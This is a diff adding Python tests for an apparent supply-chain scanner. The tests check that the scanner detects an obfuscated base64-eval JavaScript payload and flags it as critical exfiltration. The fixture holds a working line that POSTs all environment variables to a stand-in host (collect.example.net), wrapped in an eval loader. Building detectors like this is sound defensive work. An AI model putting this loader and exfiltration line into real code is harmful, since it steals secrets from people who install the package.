@@ -1,0 +1,31 @@
+"""Code decoded from a payload keeps its request details: where it connects and what it sends."""
+
+from __future__ import annotations
+
+import base64
+
+from egress.analyzers.javascript import JavaScriptAnalyzer
+from egress.engine import ScanOptions, scan
+from egress.model import Ecosystem, FindingKind, PackageArtifact, SourceFile
+
+PAYLOAD = ("const h = require('https');\n"
+           "h.request('https://collect.example.net/c', {method: 'POST'}).end(JSON.stringify(process.env));\n")
+CODE = f"eval(Buffer.from('{base64.b64encode(PAYLOAD.encode()).decode()}', 'base64').toString());\n"
+
+
+def test_a_base64_eval_payload_has_its_destination_and_data() -> None:
+    analysis = JavaScriptAnalyzer().analyze(SourceFile("index.js", CODE.encode()))
+    [net] = [f for f in analysis.findings if f.kind is FindingKind.NETWORK]
+    assert (net.api, net.line, net.column) == ("https.request", 1, 1)
+    assert net.note.startswith("in decoded payload (base64, depth 1); payload line 2")
+    assert [(d.text, d.known) for d in net.destinations] == [("https://collect.example.net/c", "full")]
+    assert net.data_sources == ("env",)
+
+
+def test_through_the_pipeline_it_is_exfiltration() -> None:
+    def read(want):
+        return iter([SourceFile("index.js", CODE.encode())])
+
+    [result] = scan([PackageArtifact(Ecosystem.NPM, "p", "1.0.0", read_files=read, metadata={"main": "index.js"})],
+                    ScanOptions(jobs=1)).packages
+    assert ("exfiltration", "critical") in {(a.type, a.severity.value) for a in result.alerts}
